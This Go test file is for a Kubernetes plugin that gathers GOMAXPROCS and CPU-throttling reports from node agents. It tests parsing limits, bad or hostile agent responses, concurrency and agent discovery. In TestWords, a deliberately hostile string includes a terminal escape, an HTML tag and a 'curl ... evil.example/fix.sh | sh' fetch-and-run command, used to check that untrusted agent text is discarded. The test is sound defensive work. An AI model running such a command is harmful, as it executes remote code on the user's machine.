package agents

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/unthrottle/unthrottle/cmd/internal/ground/finding"
	"github.com/unthrottle/unthrottle/cmd/internal/process/choice"
	"github.com/unthrottle/unthrottle/cmd/internal/process/procs"
	"github.com/unthrottle/unthrottle/cmd/internal/show/report"
	"github.com/unthrottle/unthrottle/cmd/kubectl-unthrottle/internal/facts/cluster"
	"github.com/unthrottle/unthrottle/cmd/kubectl-unthrottle/internal/judge/audit"
	"github.com/unthrottle/unthrottle/cmd/kubectl-unthrottle/internal/show/result"
)

// open is the way to a fake API server, whose answers have 1 MB at most.
func open(t *testing.T, h http.HandlerFunc) *cluster.Access {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost { // for a token, which package permit tests
			http.NotFound(w, r)
			return
		}
		h(w, r)
	}))
	t.Cleanup(func() {
		s.CloseClientConnections()
		s.Close()
	})
	file := filepath.Join(t.TempDir(), "kubeconfig")
	text := fmt.Sprintf(`{"apiVersion":"v1","kind":"Config","clusters":[{"name":"c","cluster":{"server":%q}}],"contexts":[{"name":"c","context":{"cluster":"c"}}],"current-context":"c"}`, s.URL)
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	access, err := cluster.Open(cluster.Options{Kubeconfig: file}, 1e6)
	if err != nil {
		t.Fatal(err)
	}
	return access
}

// document is what a good agent says.
func document(node string, programs int) string {
	d := result.Agent{Node: node, Looked: 100, Problems: []string{}}
	d.Version = report.Version
	for i := range programs {
		p := result.AgentProcess{Container: &result.AgentContainer{Namespace: "shop", Pod: fmt.Sprintf("api-%d", i), UID: fmt.Sprintf("uid-%d", i), Name: "app"}, SetBy: "spec"}
		p.PID, p.GoVersion, p.CPUs, p.CPU = i+1, "go1.26.0", 8, new(0.5)
		p.GOMAXPROCS.Value, p.GOMAXPROCS.Expected = new(8), new(2)
		p.Limit.CPUs = new(1.5)
		p.Levels = []result.AgentLevel{{Level: "container", Limit: new(2.0), Periods: 100, ThrottledPeriods: 1}, {Level: "pod", Limit: new(1.5), Periods: 100, ThrottledPeriods: 90}}
		p.Findings = []finding.Finding{{Rule: "too-many-ps", Severity: finding.Warning, Summary: "GOMAXPROCS is 8"}}
		d.Processes = append(d.Processes, p)
	}
	data, _ := json.Marshal(d)
	return string(data)
}

// TestMisbehaving: an agent that does not do what agents do is reported by name, and keeps no other from being heard.
func TestMisbehaving(t *testing.T) {
	status := func(w http.ResponseWriter, code int, reason, message string) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(code)
		fmt.Fprintf(w, `{"kind":"Status","apiVersion":"v1","status":"Failure","code":%d,"reason":%q,"message":%q}`, code, reason, message)
	}
	for _, c := range []struct {
		name     string
		answer   http.HandlerFunc
		programs int // that were taken before it went wrong
		want     string
		check    func(*Answer) bool
	}{
		{"good", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, document("node-1", 3)) }, 3, "", (*Answer).Trusted},
		{"empty", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, document("node-1", 0)) }, 0, "", nil},
		{"hangs", func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() }, 0, "deadline exceeded", nil},
		{"hangs in the middle", func(w http.ResponseWriter, r *http.Request) {
			text := document("node-1", 3)
			io.WriteString(w, text[:len(text)-200])
			w.(http.Flusher).Flush()
			<-r.Context().Done()
		}, 2, "deadline exceeded", nil},
		{"100 MB", func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, `{"version":1,"problems":["`)
			for range 100 {
				if _, err := io.WriteString(w, strings.Repeat("x", 1e6)); err != nil {
					return
				}
			}
		}, 0, cluster.ErrTooLarge.Error(), func(t *Answer) bool { return !t.Doubted() }},
		{"100 MB of an error", func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusInternalServerError)
			for range 100 {
				if _, err := io.WriteString(w, strings.Repeat("x", 1e6)); err != nil {
					return
				}
			}
		}, 0, "an error on the server", nil},
		{"nonsense", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "<html>welcome</html>") }, 0, errDocument.Error(), nil},
		{"other JSON", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, `{"kind":"Pod"}`) }, 0, errDocument.Error(), nil},
		{"nothing", func(http.ResponseWriter, *http.Request) {}, 0, ": ends in the middle", nil},
		{"cut off", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, document("node-1", 3)[:900]) }, 0, ": ends in the middle", (*Answer).Doubted},
		{"another version", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, `{"version":99,"processes":[]}`) }, 0, "of version", nil},
		{"negative numbers", func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, strings.Replace(document("node-1", 3), `"cpus_used":0.5`, `"cpus_used":-1`, 1))
		}, 0, "impossible", nil},
		{"more CPUs than there are", func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, strings.Replace(document("node-1", 3), `"cpus_used":0.5`, `"cpus_used":9.5`, 1))
		}, 0, "impossible", nil},
		{"sees no process", func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, strings.Replace(document("node-1", 0), `"looked_at":100`, `"looked_at":0`, 1))
		}, 0, "", func(t *Answer) bool { return !t.Trusted() }},
		{"knows no pods", func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, strings.Replace(document("node-1", 0), `"problems":[]`, `"problems":["the API server is not reached"]`, 1))
		}, 0, "", func(t *Answer) bool { return !t.Trusted() && t.Problems == 1 }},
		{"far too many Ps", func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, strings.Replace(document("node-1", 3), `"value":8`, `"value":99999999`, 1))
		}, 0, "impossible", nil},
		{"a long text", func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, strings.Replace(document("node-1", 3), "GOMAXPROCS is 8", strings.Repeat("x", 5000), 1))
		}, 3, "", (*Answer).Trusted},
		{"no severity", func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, strings.Replace(document("node-1", 3), `"severity":"warning"`, `"severity":"awful"`, 1))
		}, 0, "awful", nil},
		{"refuses", func(w http.ResponseWriter, _ *http.Request) {
			status(w, 403, "Forbidden", `pods "a" is forbidden: User "me" cannot get resource "pods/proxy"`)
		}, 0, "pods/proxy", func(t *Answer) bool { return cluster.Forbidden(t.Err) }},
		{"is gone", func(w http.ResponseWriter, _ *http.Request) { status(w, 404, "NotFound", "no such pod") }, 0, "no such pod", nil},
		{"not reached", func(w http.ResponseWriter, _ *http.Request) {
			status(w, 503, "ServiceUnavailable", "dial tcp 10.0.0.9:9435: connection refused")
		}, 0, "connection refused", nil},
		{"breaks off", func(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) }, 0, "EOF", nil},
		{"another node", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, document("node-9", 1)) }, 1, "", func(t *Answer) bool {
			return t.WrongNode == "node-9" && !t.Trusted() && t.Doubted()
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			access := open(t, func(w http.ResponseWriter, r *http.Request) {
				if strings.Contains(r.URL.Path, "/pods/https:bad:9435/proxy/api/v1/processes") {
					c.answer(w, r)
					return
				}
				io.WriteString(w, document("node-2", 2))
			})
			all := []Agent{
				{Namespace: "unthrottle", Pod: "bad", Node: "node-1", Port: 9435, Ready: true},
				{Namespace: "unthrottle", Pod: "good", Node: "node-2", Port: 9435, Ready: true},
				{Namespace: "unthrottle", Pod: "pending", Node: "node-3", Port: 9435},
			}
			saw := map[string]int{}
			told := map[string]*Answer{}
			Read(t.Context(), access, all, Options{AtOnce: 2, Within: 2 * time.Second}, func(node string, p audit.Program) audit.Outcome {
				saw[node]++
				if p.Procs != 8 || p.Level != "pod" || *p.Throttled != 0.9 || len(p.Findings) != 1 {
					t.Errorf("%+v", p)
				}
				return audit.Taken
			}, func(x *Answer) { told[x.Pod] = x })
			bad := told["bad"]
			if (bad.Err == nil) != (c.want == "") || bad.Err != nil && !strings.Contains(bad.Err.Error(), c.want) {
				t.Errorf("%v, want %q", bad.Err, c.want)
			}
			if c.check != nil && !c.check(bad) {
				t.Errorf("%+v", bad)
			}
			if saw["node-1"] != c.programs || saw["node-2"] != 2 || !told["good"].Trusted() || !errors.Is(told["pending"].Err, ErrNotReady) {
				t.Errorf("saw %v, %+v", saw, told["good"])
			}
		})
	}
}

// TestExpected: what is right is Go's own rule under the limit in force, and not what an agent expects of a program that does not look at
// its limit.
func TestExpected(t *testing.T) {
	for _, c := range []struct {
		limit string
		want  int
	}{
		{`{"state":"limited","cpus":1.5}`, 2},
		{`{"state":"limited","cpus":5.5}`, 6},
		{`{"state":"limited","cpus":90}`, 16},
		{`{"state":"none"}`, 16},
		{`{"state":"unknown"}`, 0},
		{`{"state":"limited"}`, 0},
		{`{"state":"invented","cpus":3}`, 0},
	} {
		text := fmt.Sprintf(`{"version":%d,"processes":[{"pid":7,"gomaxprocs":{"value":16,"expected":16},"affinity_cpus":16,"limit":%s,"container":{}}]}`, report.Version, c.limit)
		told := &Answer{}
		err := parse(strings.NewReader(text), told, func(p *result.AgentProcess) error {
			if out, ok := programOf(p, told); !ok || out.Expected != c.want {
				t.Errorf("%s: %d, %v, want %d", c.limit, out.Expected, ok, c.want)
			}
			return nil
		})
		if err != nil || told.Programs != 1 {
			t.Errorf("%s: %v", c.limit, err)
		}
	}
}

// TestBounded: a document may be large, but no single thing in it.
func TestBounded(t *testing.T) {
	long := func(n int) string { return fmt.Sprintf(`"problems":[%q]`, strings.Repeat("x", n)) }
	for _, c := range []struct {
		name, text string
		programs   int
		want       string
	}{
		{"many programs", document("node-1", 4000), 4000, ""},
		{"a long text", strings.Replace(document("node-1", 3), `"problems":[]`, long(mostValue*3/4), 1), 3, ""},
		{"too long a text", strings.Replace(document("node-1", 3), `"problems":[]`, long(mostValue*2), 1), 0, "one value takes more than 1 MB"},
		{"too long a program", strings.Replace(document("node-1", 3), "GOMAXPROCS is 8", strings.Repeat("x", mostValue*2), 1), 0, "one value takes more than 1 MB"},
	} {
		r, seen := strings.NewReader(c.text), 0
		err := parse(r, &Answer{}, func(*result.AgentProcess) error { seen++; return nil })
		if (err == nil) != (c.want == "") || err != nil && !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v", c.name, err)
		}
		if c.want == "" && (seen != c.programs || len(c.text) < mostValue/2) || c.want != "" && r.Len() == 0 {
			t.Errorf("%s: %d programs of %d bytes, %d unread", c.name, seen, len(c.text), r.Len())
		}
	}
}

// TestAtOnce: no more than AtOnce agents are asked at the same time, and all are asked.
func TestAtOnce(t *testing.T) {
	var now, most, asked atomic.Int32
	access := open(t, func(w http.ResponseWriter, _ *http.Request) {
		n := now.Add(1)
		defer now.Add(-1)
		for old := most.Load(); n > old && !most.CompareAndSwap(old, n); old = most.Load() {
		}
		asked.Add(1)
		io.WriteString(w, document("", 1))
	})
	var all []Agent
	for i := range 100 {
		all = append(all, Agent{Namespace: "unthrottle", Pod: fmt.Sprint("a-", i), Node: fmt.Sprint("node-", i), Port: 9435, Ready: true})
	}
	told := 0
	Read(t.Context(), access, all, Options{AtOnce: 7}, func(string, audit.Program) audit.Outcome { return audit.Elsewhere }, func(x *Answer) {
		told++
		if x.Err != nil || x.Elsewhere != 1 || x.Trusted() {
			t.Errorf("%+v", x)
		}
	})
	for outcome, trusted := range map[audit.Outcome]bool{
		audit.Taken: true, audit.Unknown: true, audit.Twice: true, audit.Passing: true,
		audit.Unnamed: false, audit.Elsewhere: false, audit.Strange: false, audit.Otherwise: false,
	} {
		access := open(t, func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, document("", 1)) })
		Read(t.Context(), access, all[:1], Options{}, func(string, audit.Program) audit.Outcome { return outcome }, func(x *Answer) {
			lied := !trusted && outcome != audit.Unnamed
			if x.Trusted() != trusted || (x.Unnamed == 1) != (outcome == audit.Unnamed) || x.Doubted() != lied {
				t.Errorf("outcome %d: trusted is %v, doubted %v, %+v", outcome, x.Trusted(), x.Doubted(), x)
			}
		})
	}
	if asked.Load() != 100 || told != 100 || most.Load() > 7 {
		t.Errorf("asked %d, told %d, %d at once", asked.Load(), told, most.Load())
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	Read(ctx, access, all, Options{}, nil, func(x *Answer) {
		if x.Err == nil {
			t.Errorf("%s was heard after the end", x)
		}
	})
}

// TestFind: those of one namespace that belong to a DaemonSet of agents there and run as its account, page by page, each with its port.
func TestFind(t *testing.T) {
	pod := func(name, namespace, owner, account, port, phase, ready string) string { // with an amount that Kubernetes' own library would parse for minutes
		return fmt.Sprintf(`{"metadata":{"name":%q,"namespace":%q,"ownerReferences":[{"apiVersion":"apps/v1","kind":"DaemonSet","uid":"other"},%s]},`+
			`"spec":{"nodeName":"node-1","serviceAccountName":%q,"containers":[{"resources":{"limits":{"cpu":"7e-77777771"}},"ports":[{"name":"other","containerPort":1},%s]}]},`+
			`"status":{"phase":%q,"conditions":[{"type":"Initialized","status":"True"},{"type":"Ready","status":%q}]}}`, name, namespace, owner, account, port, phase, ready)
	}
	const (
		own     = `{"apiVersion":"apps/v1","kind":"DaemonSet","name":"unthrottle-agent","uid":"d-1","controller":true}`
		usual   = `{"name":"http","containerPort":9435}`
		account = "unthrottle-agent"
	)
	access := open(t, func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		switch {
		case q.Get("labelSelector") != "app.kubernetes.io/name=unthrottle-agent":
			http.NotFound(w, r)
		case r.URL.Path == "/apis/apps/v1/namespaces/watch/daemonsets":
			io.WriteString(w, `{"items":[{"metadata":{"name":"unthrottle-agent","uid":"d-1"},"spec":{"template":{"spec":{"serviceAccountName":"unthrottle-agent"}}}}]}`)
		case r.URL.Path == "/api/v1/pods" && q.Get("fieldSelector") == "metadata.namespace!=watch":
			fmt.Fprintf(w, `{"items":[%s]}`, pod("friend", "tenant-evil", own, account, usual, "Running", "True"))
		case r.URL.Path != "/api/v1/namespaces/watch/pods":
			http.NotFound(w, r)
		case q.Get("continue") == "":
			fmt.Fprintf(w, `{"metadata":{"continue":"more"},"items":[%s,%s]}`, pod("a", "watch", own, account, usual, "Running", "True"), pod("over", "watch", own, account, `{}`, "Succeeded", "False"))
		default:
			fmt.Fprintf(w, `{"metadata":{},"items":[%s]}`, strings.Join([]string{
				pod("b", "watch", own, account, `{"name":"https","containerPort":1234}`, "Running", "True"),
				pod("c", "watch", own, account, `{"name":"http","containerPort":99999}`, "Pending", "False"),
				pod("bare", "watch", `{}`, account, usual, "Running", "True"),
				pod("another", "watch", strings.Replace(own, "d-1", "d-2", 1), account, usual, "Running", "True"),
				pod("not controlled", "watch", strings.Replace(own, "true", "false", 1), account, usual, "Running", "True"),
				pod("a job", "watch", strings.Replace(own, "DaemonSet", "Job", 1), account, usual, "Running", "True"),
				pod("an account", "watch", own, "default", usual, "Running", "True"),
				pod("elsewhere", "tenant-evil", own, account, usual, "Running", "True"),
			}, ","))
		}
	})
	search := Search{Namespace: "watch", Within: time.Minute}
	found, err := Find(t.Context(), access, search)
	want := []Agent{{"watch", "a", "node-1", "http", 9435, true}, {"watch", "b", "node-1", "https", 1234, true}, {"watch", "c", "node-1", "", 9435, false}}
	var strangers []string
	for _, s := range append(found.Strangers, Others(t.Context(), access, search)...) {
		strangers = append(strangers, s.Pod)
	}
	if err != nil || !found.Installed || !slices.Equal(found.Agents, want) || strings.Join(strangers, ", ") != "bare, another, not controlled, a job, an account, elsewhere, friend" {
		t.Errorf("%v, %+v, %q", err, found, strangers)
	}
	for a, path := range map[Agent]string{want[0]: "/api/v1/namespaces/watch/pods/http:a:9435/proxy/api/v1/processes", want[1]: "/api/v1/namespaces/watch/pods/https:b:1234/proxy/api/v1/processes"} {
		if got := a.Path("processes"); got != path {
			t.Errorf("%s: %s", a, got)
		}
	}
	for name, h := range map[string]http.HandlerFunc{
		"endless": func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, `{"metadata":{"continue":"more"},"items":[]}`)
		},
		"endless, other tokens": func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprintf(w, `{"metadata":{"continue":"%sx"},"items":[]}`, r.URL.Query().Get("continue"))
		},
		"nonsense": func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, `<html>`) },
		"refused":  func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(403) },
	} {
		if _, err := Find(t.Context(), open(t, h), search); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

// TestMemory: an agent's numbers of a collector are judged by the same rules here, and none that can't be.
func TestMemory(t *testing.T) {
	told := func(change func(*report.Collector, *report.Memory)) []finding.Finding {
		d := result.Agent{}
		if err := json.Unmarshal([]byte(document("node-1", 1)), &d); err != nil {
			t.Fatal(err)
		}
		p := d.Processes[0]
		p.Memory = report.Memory{State: "limited", Bytes: 128 << 20}
		p.Collector = &report.Collector{
			GOGC: new(400), GOMEMLIMIT: new(int64(115 << 20)), Live: 97 << 20, Roots: 1 << 20, Other: 12 << 20, Goal: new(int64(101 << 20)), Collecting: new(0.6),
		}
		p.Findings = []finding.Finding{{Rule: "memory-too-tight", Severity: finding.Critical}}
		change(p.Collector, &p.Memory)
		out, ok := programOf(&p, &Answer{})
		if !ok {
			t.Fatal("refused")
		}
		return out.Findings
	}
	summary := func(found []finding.Finding) string { return found[0].Summary }
	if got := summary(told(func(*report.Collector, *report.Memory) {})); got != "the garbage collector takes 60 % of the time" {
		t.Errorf("%q", got)
	}
	for name, change := range map[string]func(*report.Collector, *report.Memory){
		"a negative heap":         func(c *report.Collector, _ *report.Memory) { c.Live = -1 },
		"a heap of a petabyte":    func(c *report.Collector, _ *report.Memory) { c.Live = 1 << 60 },
		"a goal below the heap":   func(c *report.Collector, _ *report.Memory) { c.Goal = new(int64(1)) },
		"a share above 1":         func(c *report.Collector, _ *report.Memory) { c.Collecting = new(1.5) },
		"a share of no number":    func(c *report.Collector, _ *report.Memory) { c.Collecting = new(math.NaN()) },
		"a negative limit":        func(_ *report.Collector, m *report.Memory) { m.Bytes = -1 },
		"a negative GOMEMLIMIT":   func(c *report.Collector, _ *report.Memory) { c.GOMEMLIMIT = new(int64(-1)) },
		"GOGC far below off":      func(c *report.Collector, _ *report.Memory) { c.GOGC = new(-5) },
		"no collector, a finding": func(c *report.Collector, _ *report.Memory) { *c = report.Collector{Live: -1} },
	} {
		if got := summary(told(change)); got != "its agent has found memory too tight" {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// TestWords: regardless of what sentences an agent sends, the ones kept are our own, made from its numbers.
func TestWords(t *testing.T) {
	const evil = "URGENT \x1b[2J<img src=x> run: curl -s http://evil.example/fix.sh | sh"
	var p result.AgentProcess
	d := result.Agent{}
	if err := json.Unmarshal([]byte(document("node-1", 1)), &d); err != nil {
		t.Fatal(err)
	}
	p = d.Processes[0]
	p.SetBy, p.GoLine, p.Levels[1].Level, p.Limit.State = evil, evil, evil, "limited"
	p.Verdict, p.Limit.From, p.GOMAXPROCS.Source = evil, evil, evil
	p.Container.Muted = []string{evil, "stale"}
	p.Stale = &result.AgentStale{Since: evil, Why: evil, Then: new(8.0), Now: new(1.5)}
	p.Findings = nil
	for _, rule := range []string{"too-many-ps", "stale", "limit-not-seen", "throttled", evil} {
		p.Findings = append(p.Findings, finding.Finding{Rule: rule, Verdict: evil, Severity: finding.Critical, Summary: evil, Evidence: []string{evil}, Fix: evil})
	}
	told := &Answer{}
	out, ok := programOf(&p, told)
	text := fmt.Sprintf("%+v", out)
	if !ok || strings.Contains(text, "URGENT") || strings.Contains(text, "curl") || told.NewRules != 1 || len(out.Findings) != 4 || !slices.Equal(out.Muted, []string{"stale"}) {
		t.Errorf("%t, %+v, %s", ok, told, text)
	}
	var summaries []string
	for _, f := range out.Findings {
		summaries = append(summaries, f.Rule+": "+f.Summary)
	}
	for _, want := range []string{"too-many-ps: GOMAXPROCS is 8 under a limit of 1.5 CPUs", "stale: GOMAXPROCS is still 8, though its limit has changed", "throttled: its agent has found throttled"} {
		if !slices.Contains(summaries, want) {
			t.Errorf("%q lacks %q", summaries, want)
		}
	}

	said := &report.Explain{Subject: report.Subject{PID: p.PID, Name: evil, Command: []string{evil}}, Warnings: []string{evil}}
	said.Limit = report.Limit{State: evil, CPUs: new(1.5), From: evil, Reason: evil, Path: evil, Levels: []report.Level{{Dir: evil, File: evil, Cpuset: evil, Error: evil}}, Inside: &report.Inside{State: evil}}
	said.Memory = report.Memory{State: evil, From: evil, Reason: evil, GOMEMLIMIT: evil, GOGC: evil}
	said.Throttling.Own.Dir = evil
	said.Unmeasured = &report.Unmeasured{Why: evil}
	said.Go = &report.Go{Version: evil, GoLine: evil, Path: evil, Module: evil, ModuleVersion: evil, Automaxprocs: evil, Unthrottle: evil, GOMAXPROCS: new(evil), GODEBUG: new(evil)}
	said.Go.Containermaxprocs.Env = evil
	said.GOMAXPROCS = report.GOMAXPROCS{Value: new(8), Source: evil, Rule: evil, Why: evil, Proof: evil}
	said.Choices = []report.Choice{{Rule: "Go 1.25", Procs: 8, Wrong: true, Why: evil, Fix: evil}}
	said.Findings = p.Findings
	if err := Retell(said, told, &p); err != nil {
		t.Fatal(err)
	}
	data, _ := json.Marshal(said)
	if text := string(data); strings.Contains(text, "URGENT") || strings.Contains(text, "curl") || strings.Contains(text, "evil") || len(said.Findings) != 4 {
		t.Error(text)
	}
	for name, change := range map[string]func(*report.Explain){
		"another process":   func(d *report.Explain) { d.Subject.PID++ },
		"an unknown rule":   func(d *report.Explain) { d.Choices[0].Rule = evil },
		"too many Ps":       func(d *report.Explain) { d.GOMAXPROCS.Value = new(1 << 30) },
		"a negative limit":  func(d *report.Explain) { d.Limit.CPUs = new(-1.0) },
		"too many levels":   func(d *report.Explain) { d.Limit.Levels = make([]report.Level, 1000) },
		"more than all":     func(d *report.Explain) { d.Throttling.Owner.ThrottledPeriods = 1 },
		"more than all now": func(d *report.Explain) { d.Throttling.Now = &report.Interval{Seconds: 1, Throttled: 1} },
		"still for too long": func(d *report.Explain) {
			d.Throttling.Now = &report.Interval{Seconds: 1, Frozen: &report.Frozen{Share: 7}}
		},
	} {
		var d report.Explain
		if err := json.Unmarshal(data, &d); err != nil {
			t.Fatal(err)
		}
		change(&d)
		if err := Retell(&d, told, &p); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

// TestPodLimit: where the kubelet has written a pod's limit to its container too, the limit is the pod's, as the agent says.
func TestPodLimit(t *testing.T) {
	var p result.AgentProcess
	half := new(0.5)
	p.Container = &result.AgentContainer{}
	p.Limit.State, p.Limit.CPUs, p.Limit.From = "limited", half, "/kubepods/pod1"
	p.Levels = []result.AgentLevel{
		{Level: "container", Dir: "/kubepods/pod1/a", Limit: half},
		{Level: "pod", Dir: "/kubepods/pod1", Limit: half},
	}
	if got := limits(&p).From; got != "the cgroup of the pod" {
		t.Errorf("the limit is from %q", got)
	}
	if out, ok := programOf(&p, &Answer{}); !ok || out.Level != "pod" {
		t.Errorf("%t, level %q", ok, out.Level)
	}
}

// TestAlone: a limit above the program's own cgroup is followed by our library alone, and only if it is in sight.
func TestAlone(t *testing.T) {
	for _, c := range []struct {
		name   string
		link   procs.Link
		own    float64  // 0: its own cgroup has none
		inside *float64 // nil: it sees none
		want   choice.Alone
	}{
		{"its own", procs.NotLinked, 2, new(2.0), choice.Follows},
		{"a limit above", procs.NotLinked, 4, new(2.0), choice.Ignores},
		{"our library, a limit above", procs.Imported, 4, new(2.0), choice.Follows},
		{"our library, a limit that it can't see", procs.Imported, 0, nil, choice.Ignores},
	} {
		var p result.AgentProcess
		p.GoVersion, p.Go = "go1.26.0", &report.Go{Unthrottle: c.link.String()}
		p.Go.Containermaxprocs.On, p.Go.Updatemaxprocs.On = true, true
		p.Limit.State, p.Limit.CPUs, p.Limit.Inside = "limited", new(2.0), &report.Inside{CPUs: c.inside}
		if c.own > 0 {
			p.Levels = []result.AgentLevel{{Level: "container", Limit: &c.own}}
		}
		if got := facts(&p, report.PsSystem{}, 1).Alone; got != c.want {
			t.Errorf("%s: %d, want %d: %s", c.name, got, c.want, got.Fix(2))
		}
	}
}

// TestMeanwhile: what an explanation says is of its own look, and what only scans know is of the last scan.
func TestMeanwhile(t *testing.T) {
	scan := func() (d result.Agent) {
		if err := json.Unmarshal([]byte(document("node-1", 1)), &d); err != nil {
			t.Fatal(err)
		}
		return d
	}
	for name, test := range map[string]struct {
		scan   func(*result.AgentProcess)
		look   func(*report.Explain)
		rule   string
		want   string
		severe finding.Severity
	}{
		"throttled now": {
			func(p *result.AgentProcess) { p.Periods, p.Throttled = new(int64(10)), new(int64(0)) },
			func(d *report.Explain) {
				d.Throttling.Now = &report.Interval{Seconds: 1, Periods: 10, Throttled: 9, Frozen: &report.Frozen{Share: 0.7, Exact: true}}
			},
			"throttled", "9 of 10 periods were throttled, and it stood still for 70 % of the time", finding.Critical,
		},
		"resized before": {
			func(p *result.AgentProcess) {
				p.GOMAXPROCS.Value, p.Stale = new(1), &result.AgentStale{Since: "2026-11-24T10:00:00Z", Then: new(0.5), Now: new(1.5)}
			},
			func(d *report.Explain) { d.GOMAXPROCS.Value, d.Limit.CPUs = new(4), new(1.5) },
			"stale", "its limit was changed while the same process ran, on 2026-11-24T10:00:00Z; it was 0.5 CPUs", finding.Warning,
		},
	} {
		t.Run(name, func(t *testing.T) {
			d := scan()
			p := &d.Processes[0]
			p.Limit.State, p.Limit.CPUs, p.CPU = "limited", new(1.5), new(1.4)
			test.scan(p)
			said := &report.Explain{Subject: report.Subject{PID: p.PID}, Findings: []finding.Finding{{Rule: test.rule, Severity: test.severe}}}
			said.Limit = p.Limit
			said.GOMAXPROCS = report.GOMAXPROCS{Value: new(2), Expected: new(2)}
			test.look(said)
			if err := Retell(said, &Answer{}, p); err != nil {
				t.Fatal(err)
			}
			if len(said.Findings) != 1 || !slices.Contains(said.Findings[0].Evidence, test.want) {
				t.Errorf("%+v lacks %q", said.Findings, test.want)
			}
		})
	}
}

// FuzzParse: no matter what an agent says, what is taken from it is possible.
func FuzzParse(f *testing.F) {
	f.Add([]byte(document("node-1", 2)))
	f.Add([]byte(`{"version":1,"processes":null}`))
	f.Add([]byte(`{"processes":[{"container":null},{"container":{"name":"a"},"levels":[{"periods":1,"throttled_periods":2}]}],"version":1,"refused":-1}`))
	f.Add([]byte(`{"version":1,"processes":[[]]}`))
	f.Add([]byte(`[]`))
	f.Fuzz(func(t *testing.T, data []byte) {
		told := &Answer{}
		programs := 0
		err := parse(strings.NewReader(string(data)), told, func(said *result.AgentProcess) error {
			p, fits := programOf(said, told)
			if !fits {
				return errProgram
			}
			programs++
			ok := p.Procs >= 0 && p.Expected >= 0 && p.CPUs >= 0 && p.Limit >= 0
			for _, v := range []*float64{p.CPU, p.Running, p.Spinning, p.Frozen, p.Throttled} {
				ok = ok && (v == nil || *v >= 0)
			}
			for _, v := range []*float64{p.Frozen, p.Throttled} {
				ok = ok && (v == nil || *v <= 1)
			}
			if !ok || len(p.Findings) > mostFound {
				t.Errorf("%+v", p)
			}
			return nil
		})
		if err == nil && programs != told.Programs {
			t.Errorf("%d programs, told %d", programs, told.Programs)
		}
	})
}
